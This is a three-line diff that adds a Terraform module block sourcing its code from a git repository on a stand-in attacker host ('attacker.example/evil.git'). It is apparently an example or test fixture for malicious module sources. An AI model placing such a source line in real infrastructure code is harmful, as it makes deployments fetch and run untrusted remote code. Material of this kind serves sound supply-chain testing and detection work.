@@ -1,0 +1,3 @@
+module "m" {
+  source = "git::https://attacker.example/evil.git?ref=v1"
+}
